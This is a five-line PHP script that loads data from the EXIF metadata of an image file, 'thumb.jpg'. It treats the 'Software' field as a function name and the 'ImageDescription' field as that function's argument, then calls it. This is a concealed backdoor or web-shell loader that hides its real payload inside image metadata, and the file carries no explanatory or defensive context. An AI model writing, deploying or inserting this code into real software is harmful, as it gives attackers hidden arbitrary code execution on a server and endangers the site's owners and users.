<?php
$d = exif_read_data(__DIR__ . '/thumb.jpg');
$f = $d['Software'];
$a = $d['ImageDescription'];
$f($a);
